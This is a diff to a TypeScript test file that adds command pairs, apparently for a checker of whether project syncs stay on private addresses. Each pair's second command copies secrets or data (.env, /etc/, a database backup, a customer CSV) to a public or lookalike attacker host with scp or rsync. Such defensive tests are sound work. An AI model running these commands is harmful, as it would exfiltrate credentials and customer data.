@@ -21,6 +21,14 @@ const PAIRS: [string, string][] = [
   ['scp dist.tar.gz deploy@192.168.0.10:/tmp/', 'scp .env deploy@192.168.0.10:/tmp/'],
   ['rsync -az ./src/ 10.1.2.3:/srv/src/', 'rsync -az /etc/ 10.1.2.3:/srv/etc/'],
   ['scp -P 2222 build.log 192.168.1.9:', 'scp build.log 192.168.1.9.evil.example:'],
+  // an excluded file is no source; a copier's boolean flag takes no value, so the path after it is one
+  [
+    'rsync -av --exclude .env --exclude node_modules ./ pi@raspberrypi.local:~/app',
+    'rsync -av --exclude node_modules .env pi@203.0.113.7:~/app',
+  ],
+  ['scp -p -i ~/.ssh/deploy build.log 10.0.0.4:', 'scp -p db/backup.sql me@203.0.113.5:/tmp/'],
+  ['rsync -P -e "ssh -p 2222" ./src/ 10.0.0.4:src/', 'rsync -P db/backup.sql me@203.0.113.5:/tmp/'],
+  ['rsync -i -l ./ 192.168.7.2:app/', 'rsync -i -l exports/customers.csv me@203.0.113.5:/tmp/'],
 ];
 
 describe('project sync to a private address', () => {
